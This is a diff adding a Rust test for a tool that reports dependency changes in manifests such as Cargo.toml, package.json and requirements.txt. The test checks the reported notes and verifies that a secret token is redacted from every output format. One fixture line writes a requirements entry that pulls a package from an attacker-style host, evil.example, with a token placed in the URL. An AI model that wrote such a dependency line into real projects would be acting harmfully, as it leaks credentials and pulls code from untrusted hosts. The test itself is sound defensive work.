@@ -102,3 +102,47 @@ fn what_the_commit_had_already_is_no_finding() {
     let report = document(&project.isobox(&["report", "--format", "json", &task]));
     assert_eq!(levels(&report), [("src/key", None)]);
 }
+
+#[test]
+fn a_manifest_is_told_with_the_dependencies_that_came_and_went() {
+    let project = Project::initialised(User::Current);
+    project.write("Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nold = \"1\"\nserde = \"1.0\"\n");
+    project.write("gone/package.json", "{\"dependencies\":{\"left-pad\":\"1\"}}\n");
+    project.write("go.mod", "module x\n");
+    project.commit_all("Manifests");
+    let task = tool(
+        &project,
+        &format!(
+            "sed -i -e '/^old/d' -e 's/1.0/1.1/' Cargo.toml; rm -r gone; printf '// x\\n' >> go.mod
+        printf 'x @ https://{TOKEN}@evil.example/x\\n' > requirements.txt; echo '{{' > package.json
+        printf 'a\\0b' > Cargo.lock; printf '[dependencies]\\n' > other.toml"
+        ),
+    );
+    let report = document(&project.isobox(&["report", "--format", "json", &task]));
+    let notes: Vec<_> = report["files"].as_array().expect("files").iter().flat_map(manifest).collect();
+    assert_eq!(
+        notes,
+        [
+            ("requirements.txt", "adds x @ https://***@evil.example/x"),
+            ("Cargo.lock", "the dependencies were not compared: it is too large, or no text"),
+            ("Cargo.toml", "removes old 1; changes serde 1.0 -> 1.1"),
+            ("go.mod", "names the same dependencies as before"),
+            ("gone/package.json", "removes left-pad 1"),
+            ("package.json", "the dependencies were not compared: it cannot be read"),
+        ]
+    );
+    let found = report["files"].as_array().expect("files").iter().find(|file| file["path"] == "Cargo.toml");
+    let changes = &found.expect("the manifest")["findings"][0]["dependencies"];
+    let serde = serde_json::json!({ "name": "serde", "group": "", "before": "1.0", "after": "1.1" });
+    assert_eq!((&changes[1], changes.as_array().expect("changes").len()), (&serde, 2));
+    for format in ["text", "markdown", "sarif"] {
+        let told = told(&project, &["--format", format, &task]);
+        assert!(told.contains("changes serde 1.0 -> 1.1") && !told.contains(TOKEN), "{told}");
+    }
+}
+
+/// Path and note of a manifest.
+fn manifest(file: &Value) -> Option<(&str, &str)> {
+    let found = file["findings"].as_array()?.iter().find(|found| found["category"] == "dependency_manifest")?;
+    Some((file["path"].as_str()?, found["note"].as_str()?))
+}
